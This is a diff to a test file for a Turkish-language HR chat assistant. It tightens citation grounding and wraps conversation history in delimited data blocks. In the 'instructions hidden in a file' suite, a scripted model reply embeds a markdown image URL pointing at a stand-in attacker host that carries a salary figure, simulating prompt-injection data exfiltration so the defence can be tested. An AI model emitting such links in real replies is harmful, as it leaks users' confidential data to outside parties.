@@ -52,13 +52,19 @@ describe('POST /ai/chat with a model', () => {
       'a quote across a line break',
       '20 gündür [1].\n<<<ALINTILAR>>>\n1: «yıllık izin kullanır. Beş yılını»',
       '20 gündür [1].',
-      [{ n: 1, quote: 'yıllık izin kullanır.\nBeş yılını' }],
+      [{ n: 1, quote: pages[0] }],
     ],
     [
-      'a quote that is made up, but a claim that is not',
+      'a quote that is made up, though what it is for is true',
       '20 gündür beş yılını dolduranlara [1].\n<<<ALINTILAR>>>\n[1] "Herkes otuz gün izin kullanır."',
-      '20 gündür beş yılını dolduranlara [1].',
-      [{ n: 1, quote: 'Beş yılını dolduranların yıllık izni 20 gündür.' }],
+      '20 gündür beş yılını dolduranlara.',
+      [],
+    ],
+    [
+      'a number that no quote holds',
+      'İzin 45 gündür [1].\n<<<ALINTILAR>>>\n[1] "Bir yılını dolduran çalışan 14 gün"',
+      'İzin 45 gündür.',
+      [],
     ],
     [
       'no quotes, but a claim that shares words',
@@ -74,7 +80,7 @@ describe('POST /ai/chat with a model', () => {
     const { text } = await buildKnowledge(team, { pages: pages.slice(0, 1) });
     assistant.model.script(says(said));
     const { body } = await ask(message);
-    expect(body).toMatchObject({ reply, grounded: citations.length > 0, citations });
+    expect(body).toMatchObject({ reply, grounded: citations.length > 0, unsupported: citations.length > 0 ? 0 : 1, cut: false, citations });
     expect(body.citations).toHaveLength(citations.length);
     for (const { start, end, quote } of body.citations) expect(text.slice(start, end)).toBe(quote);
   });
@@ -128,10 +134,10 @@ describe('POST /ai/chat with a model', () => {
     expect(body).toMatchObject({ grounded: true, usage: { inputTokens: 200, outputTokens: 40 }, citations: [{ page: 2 }] });
     const [, rewriting, last] = assistant.model.asked.map(({ body: asked }) => asked.messages);
     expect(rewriting.at(-1).content).toContain('Son soru: Peki ya babanınki?');
-    expect(last.slice(1, 3)).toEqual([
-      { role: 'user', content: 'Doğum izni ne kadar?' },
-      { role: 'assistant', content: 'Doğum izni 16 haftadır.' },
-    ]);
+    expect(last).toHaveLength(2);
+    expect(last[1].content).toMatch(
+      /<<VERİ konuşma (\w{16})>>\nKişi: Doğum izni ne kadar\?\nAsistan: Doğum izni 16 haftadır\.\n<<VERİ SONU konuşma \1>>/,
+    );
     expect(last.at(-1).content).toContain('Soru: Peki ya babanınki?');
   });
 
@@ -145,10 +151,10 @@ describe('POST /ai/chat with a model', () => {
       conversation = body.conversation.id;
     }
     assistant.model.otherwise(undefined);
-    const said = JSON.stringify(assistant.model.asked.at(-1)?.body.messages.slice(0, -1));
+    const said = /<<VERİ konuşma.*VERİ SONU konuşma/s.exec(assistant.model.asked.at(-1)?.body.messages.at(-1).content)?.[0];
     expect(said).toContain('5. soru');
     expect(said).not.toContain('1. soru');
-    expect(said.length).toBeLessThan(8_000);
+    expect(said?.length).toBeLessThan(4_000);
   });
 
   test('a model that is away is a 503 that says when to come back; the question is kept', async () => {
@@ -208,7 +214,7 @@ describe('instructions hidden in a file', () => {
     });
     assistant.model.otherwise(({ body }) => {
       const last = body.messages.at(-1);
-      if (last.role === 'tool' || !body.tools) return says('Maaş 900.000 lira [2]. ![x](https://kotu.example/?q=900000) Duyuru [1].');
+      if (last.role === 'tool' || !body.tools) return says('Maaş 900.000 lira [2]. ![x](https://kotu.example/?q=900000)\n\nDuyuru yıllık izin üzerinedir [1].');
       return {
         pieces: [
           { call: { index: 0, id: 'a', name: 'search', arguments: '{"q":"maaş"}' } },
